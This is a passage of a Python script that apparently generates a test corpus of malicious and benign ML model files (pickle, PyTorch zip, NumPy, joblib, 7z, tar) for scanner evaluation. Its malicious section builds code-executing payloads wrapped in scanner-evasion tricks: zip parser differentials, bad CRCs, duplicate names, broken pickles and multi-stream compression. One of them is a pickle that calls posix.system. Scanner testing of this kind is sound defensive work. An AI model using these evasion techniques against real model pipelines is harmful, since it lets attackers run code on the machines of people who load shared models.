    wrapper_state = dct(
        (u("subclass"), sg("numpy", "ndarray")),
        (u("shape"), K(5) + T1),
        (u("order"), u("C")),
        (u("dtype"), call(sg("numpy", "dtype"), u("u1"), NEWFALSE, NEWTRUE)
         + tup(K(3), u("|"), NONE, NONE, NONE, b"J\xff\xff\xff\xff", b"J\xff\xff\xff\xff", K(0)) + BUILD),
        (u("allow_mmap"), NEWTRUE),
    )
    payload = POP + system_call_p0() + STOP
    head = (proto(4) + call(sg("copyreg", "_reconstructor"), sg("joblib.numpy_pickle", "NumpyArrayWrapper"),
                            sg("builtins", "object"), NONE) + wrapper_state + BUILD)
    raw5 = b"B" + struct.pack("<I", len(payload))  # the 5 raw uint8 array bytes joblib skips
    mal("joblib_wrapper_reconstructor_desync.joblib", head + raw5 + payload + STOP,
        "joblib.load", "own analysis: joblib reads 5 raw array bytes; a plain pickle reader sees BINBYTES over the payload")

    # ---- D. container / format tricks ------------------------------------------------
    mal("torch_zip_unusual_member_name.pt",
        torch_zip(torch_state_dict_pickle(), extra=[{"name": "archive/extra/.hidden blob", "data": P0}]),
        "pickle.load of the member", "CVE-2025-1889 / CVE-2025-10155 (extension-based member selection)")
    mal("torch_zip_uppercase_datapkl.pt",
        torch_zip(P0, pkl_name="archive/DATA.PKL"),
        "torch.load (miniz name lookup is case-insensitive)", "own analysis (miniz MZ_ZIP_FLAG_CASE_SENSITIVE unset)")
    mal("torch_zip_encrypted_flag.pt",
        zip_build([{"name": "archive/data.pkl", "data": P0, "flags": 1},
                   {"name": "archive/version", "data": b"3\n", "flags": 1}]),
        "torch.load (miniz ignores?)", "CVE-2025-1945 / GHSA-w8jq-xcqf-f792 (flag bits)")
    mal("torch_zip_flag_0x20_0x40.pt",
        zip_build([{"name": "archive/data.pkl", "data": P0, "flags": 0x60},
                   {"name": "archive/version", "data": b"3\n"}]),
        "torch.load", "picklescan malicious1_0x20/0x40")
    mal("torch_zip_bad_crc.pt",
        zip_build([{"name": "archive/data.pkl", "data": P0, "crc": 0xDEADBEEF},
                   {"name": "archive/version", "data": b"3\n"}]),
        "torch.load (CRC not checked)", "CVE-2025-10156 (JFrog CRC bypass)")
    mal("torch_zip_duplicate_names.pt",
        zip_build([{"name": "archive/data.pkl", "data": torch_state_dict_pickle()},
                   {"name": "archive/data.pkl", "data": P0},
                   {"name": "archive/version", "data": b"3\n"}]),
        "torch.load / zipfile (last or first wins)", "duplicate member names")
    mal("torch_zip_local_central_mismatch.pt",
        zip_build([{"name": "archive/data.pkl", "local_name": "archive/benign.txt", "data": P0},
                   {"name": "archive/version", "data": b"3\n"}]),
        "torch.load", "CVE-2025-1944 / GHSA-7q5r-7gvp-wc82")
    mal("zip_prefix_junk.npz",
        zip_build([{"name": "arr.npy", "data": npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", P0)}],
                  prefix=b"JUNK" * 100),
        "numpy.load(allow_pickle=True) (zipfile tolerates prefixes)", "prefix data before zip")
    mal("zip_deflate_member.pt",
        zip_build([{"name": "archive/data.pkl", "data": P0, "method": 8}, {"name": "archive/version", "data": b"3\n"}]),
        "torch.load", "deflated data.pkl")
    tarred = (tar_member("model.pt", torch_zip(P0)) + tar_end())
    mal("zip_inside_tar.tar", tarred, "tar -x then torch.load", "archive nesting")
    mal("pickle_gzip_wrapped.pkl.gz", gzip.compress(P4, mtime=0), "joblib.load (gzip)", "compression wrapper")
    mal("nullifai_7z_torch_broken_pickle.7z",
        sevenzip([("model/data.pkl", P0[:-1] + b"\x00garbage-after-payload")]),
        "7z x then torch.load", "ReversingLabs nullifAI (7z + broken pickle)")
    mal("nullifai_7z_lzma_torch_zip.7z",
        sevenzip([("model.pt", torch_zip(P0[:-1] + b"\x00garbage"))], coder="lzma"),
        "7z x then torch.load", "ReversingLabs nullifAI (7z LZMA wrapping a torch zip)")
    mal("sevenz_lzma_huge_dictionary.7z",
        sevenzip([("model/data.pkl", P0)], coder="lzma", declared_dict=1 << 30),
        "7z x then pickle.load", "own analysis: LZMA dict size above the scanner's 7z memory limit")
    mal("broken_stop_after_payload.pkl", system_call_p0() + b"\xff\xfe not a pickle anymore",
        "pickle.load", "nullifAI broken pickle / fickling gives up")
    mal("payload_after_benign_pickle.pkl", proto(2) + b"}q\x00." + P0,
        "custom loader reading two pickles", "stacked pickles (modelaudit multiple_stream_attack)")
    mal("legacy_torch_payload_in_main_pickle.pt", torch_legacy(P0),
        "torch.load(weights_only=False) legacy", "legacy torch, payload in 4th pickle")
    mal("legacy_torch_payload_in_sysinfo.pt",
        TORCH_MAGIC_PICKLE + TORCH_PROTO_PICKLE + P0 + torch_state_dict_pickle(legacy=True)
        + b"\x80\x02]q\x00X\x01\x00\x00\x000q\x01a." + struct.pack("<q4f", 4, 1, 2, 3, 4),
        "torch.load(weights_only=False) legacy", "legacy torch, payload in sys_info pickle")
    hdr_o = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    mal("numpy_object_array.npy", npy(hdr_o, P0), "numpy.load(allow_pickle=True)", "picklescan dns_exfiltration.npy")
    mal("numpy_descr_object_word.npy", npy("{'descr': 'object', 'fortran_order': False, 'shape': (1,), }", P0),
        "numpy.load(allow_pickle=True)", "own analysis: descr 'object' is dtype O")
    mal("numpy_descr_hex_escape.npy", npy("{'descr': '\\x4f', 'fortran_order': False, 'shape': (1,), }", P0),
        "numpy.load(allow_pickle=True)", "own analysis: header is literal_eval'd ('\\x4f' == 'O')")
    mal("numpy_key_escape_descr.npy", npy("{'\\x64escr': '|O', 'fortran_order': False, 'shape': (1,), }", P0),
        "numpy.load(allow_pickle=True)", "own analysis: escaped key 'descr'")
    mal("numpy_implicit_concat_key.npy", npy("{'de' 'scr': '|O', 'fortran_order': False, 'shape': (1,), }", P0),
        "numpy.load(allow_pickle=True)", "own analysis: implicit string concatenation in header")
    mal("npz_object_array_under_storage_name.pt",
        torch_zip(torch_state_dict_pickle(),
                  extra=[{"name": "archive/data/1", "data": npy(hdr_o, P0)}]),
        "numpy.load(allow_pickle=True) iterating .files", "own analysis: member named like a torch storage is skipped")
    mal("joblib_zlib.joblib", zlib.compress(P4, 3), "joblib.load", "joblib compressed (zlib)")
    mal("joblib_xz.joblib", lzma.compress(P4), "joblib.load", "control: single-stream xz")
    mal("joblib_lzma_alone.joblib", lzma.compress(P4, format=lzma.FORMAT_ALONE), "joblib.load",
        "control: single-stream .lzma (FORMAT_ALONE, end marker, unknown size)")
    mal("joblib_lz4.joblib", lz4_frame(P4), "joblib.load", "control: single lz4 frame")
    # (a multi-stream zlib joblib is NOT included: joblib 1.6 BinaryZlibFile loops on it, no loader runs it)
    mal("pickle_gzip_trailing_garbage.pkl.gz", gzip.compress(P4, mtime=0) + b"\x00trailing garbage" * 4,
        "pickle.load(gzip.open(f)) / pandas.read_pickle('x.pkl.gz') (tail never decoded)",
        "own analysis: junk after the gzip member makes the scanner drop the whole stream")
    mal("pickle_gzip_multimember.pkl.gz", gzip.compress(P4[:2], mtime=0) + gzip.compress(P4[2:], mtime=0),
        "pickle.load(gzip.open(f))", "multi-member gzip")
    mal("joblib_bz2_multistream.joblib", bz2.compress(P4[:2]) + bz2.compress(P4[2:]),
        "joblib.load", "multi-stream bzip2")
    mal("joblib_xz_multistream.joblib", lzma.compress(P4[:2]) + lzma.compress(P4[2:]),
        "joblib.load (lzma.LZMAFile reads concatenated streams)", "own analysis: multi-stream xz")
    mal("joblib_lzma_alone_multistream.joblib",
        lzma.compress(P4[:2], format=lzma.FORMAT_ALONE) + lzma.compress(P4[2:], format=lzma.FORMAT_ALONE),
        "joblib.load", "own analysis: concatenated .lzma streams")
    mal("joblib_lz4_multiframe.joblib", lz4_frame(P4[:2]) + lz4_frame(P4[2:]),
        "joblib.load (lz4.frame reads concatenated frames)", "own analysis: multi-frame lz4")
    mal("protocol0_text_pickle.pkl",
        b"(dp0\nS'model'\np1\n" + glob("posix", "system") + b"p2\n(S'echo pwned'\np3\ntp4\nRp5\ns.",
        "pickle.load", "protocol 0 text pickle")
    pax = pax_record("size", len(P0))
    mal("legacy_torch_tar_pax_size.tar",
        tar_header("././@PaxHeader", len(pax), b"x") + pad512(pax)
        + tar_header("storages", 0) + pad512(P0)
        + tar_member("tensors", b"\x80\x02K\x00.") + tar_member("pickle", torch_state_dict_pickle(legacy=True))
        + tar_member("sys_info", TORCH_SYSINFO_PICKLE) + tar_end(),
        "torch.load(weights_only=False) legacy tar (tarfile honours PAX size)",
        "own analysis: PAX 'size' record overrides the header size")
    mal("legacy_torch_tar_unknown_typeflag.tar",
        tar_member("storages", P0, typeflag=b"Z")
        + tar_member("tensors", b"\x80\x02K\x00.") + tar_member("pickle", torch_state_dict_pickle(legacy=True))
        + tar_member("sys_info", TORCH_SYSINFO_PICKLE) + tar_end(),
        "torch.load legacy tar (tarfile extracts unknown types as regular files, Python<=3.13)",
        "own analysis: unknown tar typeflag")
    mal("legacy_torch_tar_v7_header.tar",
        tar_member("storages", P0, magic=b"") + tar_member("sys_info", TORCH_SYSINFO_PICKLE, magic=b"")
        + tar_member("pickle", torch_state_dict_pickle(legacy=True), magic=b"") + tar_end(),
        "torch.load legacy tar", "V7 tar header without ustar magic")

    # zip with two central directories: miniz (torch) uses the EOCD offset, zipfile/scanner
    # use the directory that ends at the EOCD (prefix adjustment).
    evil = torch_zip(proto(3) + b"B" + struct.pack("<I", 600) + b"\x00" * 600 + POP + P0)
    ev_eocd = evil.rfind(b"PK\x05\x06")
    ev_cd_size, ev_cd_off = struct.unpack("<II", evil[ev_eocd + 12:ev_eocd + 20])
    a_part = evil[:ev_eocd]                       # A locals + CD_A
    good = torch_zip(torch_state_dict_pickle())
    g_eocd = good.rfind(b"PK\x05\x06")
    g_cd_size, g_cd_off = struct.unpack("<II", good[g_eocd + 12:g_eocd + 20])
    b_locals, b_cd = good[:g_cd_off], good[g_cd_off:g_eocd]
    start_b = len(a_part)
    start_cd_b = start_b + len(b_locals)
    delta = start_cd_b - ev_cd_off
    assert start_b - delta >= 0
    cd_b = bytearray(b_cd)
    p = 0
    while p < len(cd_b):
        nlen, xlen, clen = struct.unpack("<HHH", cd_b[p + 28:p + 34])
        lo = struct.unpack("<I", cd_b[p + 42:p + 46])[0]
        cd_b[p + 42:p + 46] = struct.pack("<I", lo + start_b - delta)
        p += 46 + nlen + xlen + clen
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 5, 5, len(cd_b), ev_cd_off, 0)
    mal("torch_zip_two_central_directories.pt", a_part + b_locals + bytes(cd_b) + eocd,
        "torch.load (miniz reads the CD at the EOCD offset)",
        "own analysis: miniz vs zipfile prefix handling (cf. CVE-2025-1944 parser differential)")


# =========================================================================== BENIGN
def gen_benign():
    ben("torch_state_dict.pt", torch_zip(torch_state_dict_pickle()), "torch.save of an OrderedDict state dict")
    ben("torch_legacy_state_dict.pt", torch_legacy(torch_state_dict_pickle("94000000000000", legacy=True)),
        "legacy torch format")
    ben("ordered_dict.pkl",
        proto(2) + glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
        + MARK + xu("a") + K(1) + xu("b") + K(2) + SETITEMS + STOP)
    ben("defaultdict_list.pkl", proto(2) + call(glob("collections", "defaultdict"), glob("builtins", "list")) + STOP)
    ben("numpy_reconstruct.pkl", ndarray_pickle_f8([1.0, 2.0, 3.0]))
    raw = struct.pack("<3d", 1, 2, 3).decode("latin1")
    ben("numpy_reconstruct_codecs_proto2.pkl",
        proto(2) + glob("numpy.core.multiarray", "_reconstruct") + glob("numpy", "ndarray") + K(0) + T1
        + call(glob("_codecs", "encode"), xu("b"), xu("latin1")) + T3 + REDUCE
        + MARK + K(1) + K(3) + T1 + glob("numpy", "dtype") + xu("f8") + NEWFALSE + NEWTRUE + T3 + REDUCE
        + MARK + K(3) + xu("<") + NONE + NONE + NONE + b"J\xff\xff\xff\xff" * 2 + K(0) + TUPLE + BUILD
        + NEWFALSE + call(glob("_codecs", "encode"), xu(raw), xu("latin1")) + TUPLE + BUILD + STOP)
    ben("builtins_containers.pkl",
        proto(2) + MARK
        + call(glob("builtins", "set"), lst(K(1), K(2)))
        + call(glob("builtins", "frozenset"), lst(K(3)))
        + call(glob("builtins", "slice"), K(1), K(5), NONE)
        + call(glob("builtins", "complex"), b"G" + struct.pack(">d", 1.0), b"G" + struct.pack(">d", 2.0))
        + call(glob("builtins", "bytearray"), xu("abc"), xu("latin1"))
        + call(glob("builtins", "range"), K(0), K(10))
        + TUPLE + STOP)
    ben("datetime_decimal.pkl",
        proto(3) + MARK
        + call(glob("datetime", "datetime"), by(b"\x07\xe8\x01\x02\x03\x04\x05\x00\x00\x00"))
        + call(glob("datetime", "date"), by(b"\x07\xe8\x01\x02"))
        + call(glob("datetime", "timedelta"), K(1), K(0), K(0))
        + call(glob("decimal", "Decimal"), xu("1.50"))
        + call(glob("fractions", "Fraction"), xu("1/3"))
        + TUPLE + STOP)
    ben("copyreg_reconstructor_sklearn_proto0.pkl",
        b"ccopy_reg\n_reconstructor\np0\n(csklearn.linear_model._base\nLinearRegression\np1\nc__builtin__\nobject\np2\nNtp3\n"
        b"Rp4\n(dp5\nS'fit_intercept'\np6\nI01\nsS'n_features_in_'\np7\nI3\nsb.")
    ben("copyreg_reconstructor_object_ordereddict.pkl",
        proto(1) + call(glob("copy_reg", "_reconstructor"), glob("collections", "OrderedDict"), glob("__builtin__", "object"),
                        NONE) + STOP)
    ben("misc_stdlib_values.pkl",
        proto(2) + MARK
        + call(glob("re", "_compile"), xu("a+b*"), K(0))
        + call(glob("pathlib", "PosixPath"), xu("/tmp"), xu("model.bin"))
        + glob("uuid", "UUID") + EMPTY_TUPLE + NEWOBJ + dct((xu("int"), b"\x8a\x10" + b"\x11" * 16)) + BUILD
        + TUPLE + STOP)
    ben("numpy_randomstate.pkl",
        proto(2) + call(glob("numpy.random._pickle", "__randomstate_ctor"), xu("MT19937"),
                        glob("numpy.random._pickle", "__bit_generator_ctor"))
        + dct((xu("bit_generator"), xu("MT19937")), (xu("has_gauss"), K(0))) + BUILD + STOP)
    ben("torch_parameter.pkl",
        proto(2) + call(glob("torch._utils", "_rebuild_parameter"),
                        call(glob("torch._utils", "_rebuild_tensor_v2"),
                             tup(xu("storage"), glob("torch", "FloatStorage"), xu("0"), xu("cpu"), K(4)) + BINPERSID,
                             K(0), K(4) + T1, K(1) + T1, NEWFALSE, call(glob("collections", "OrderedDict"))),
                        NEWTRUE, call(glob("collections", "OrderedDict"))) + STOP)
    ben("numpy_float_array.npy", npy("{'descr': '<f8', 'fortran_order': False, 'shape': (3,), }",
                                     struct.pack("<3d", 1, 2, 3)))
    ben("numpy_arrays.npz", zip_build([
        {"name": "a.npy", "data": npy("{'descr': '<i8', 'fortran_order': False, 'shape': (2,), }", struct.pack("<2q", 1, 2))},
        {"name": "b.npy", "data": npy("{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }", struct.pack("<2f", 1, 2)),
         "method": 8}]))
    # realistic joblib dump of a StandardScaler with one inline float64 array
    arr = struct.pack("<3d", 0.5, 1.5, 2.5)
    wrapper = (glob("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ
               + dct((xu("subclass"), glob("numpy", "ndarray")), (xu("shape"), K(3) + T1), (xu("order"), xu("C")),
                     (xu("dtype"), glob("numpy", "dtype") + xu("f8") + NEWFALSE + NEWTRUE + T3 + REDUCE
                      + MARK + K(3) + xu("<") + NONE + NONE + NONE + b"J\xff\xff\xff\xff" * 2 + K(0) + TUPLE + BUILD),
                     (xu("allow_mmap"), NEWTRUE), (xu("numpy_array_alignment_bytes"), K(16)))
               + BUILD)
    head = (proto(4) + glob("sklearn.preprocessing._data", "StandardScaler") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT
            + MARK + xu("with_mean") + NEWTRUE + xu("with_std") + NEWTRUE + xu("copy") + NEWTRUE
            + xu("n_features_in_") + K(3) + xu("mean_") + wrapper)
    pad = -(len(head) + 1) % 16
    jl = head + bytes([pad]) + b"\xff" * pad + arr + SETITEMS + BUILD + STOP
    ben("sklearn_scaler.joblib", jl)
    ben("sklearn_scaler_zlib.joblib", zlib.compress(jl, 3))
    ben("scipy_csr_matrix.pkl",
        proto(2) + glob("scipy.sparse._csr", "csr_matrix") + EMPTY_TUPLE + NEWOBJ
        + dct((xu("_shape"), K(2) + K(2) + T2), (xu("maxprint"), K(50))) + BUILD + STOP)
    ben("protocol0_dict.pkl", b"(dp0\nS'lr'\np1\nF0.001\nsS'tags'\np2\nc__builtin__\nset\np3\n((lp4\nS'a'\naS'b'\natRp5\ns.")
    ben("gzip_ordered_dict.pkl.gz",
        gzip.compress(proto(2) + glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + STOP, mtime=0))
    ben("torch_state_dict.7z", sevenzip([("model.pt", torch_zip(torch_state_dict_pickle()))]))


def main():
    for d in (MAL, BEN):
        shutil.rmtree(d, ignore_errors=True)
        os.makedirs(d)
    gen_malicious()
    gen_benign()
    with open(os.path.join(ROOT, "index.tsv"), "w") as f:
        f.write("kind\tfile\tloader\tsource\tnote\n")
        for row in INDEX:
            f.write("\t".join(row) + "\n")
    n_mal = sum(1 for r in INDEX if r[0] == "mal")
    print(f"wrote {n_mal} malicious and {len(INDEX) - n_mal} benign files under {OUT}")


if __name__ == "__main__":
    main()
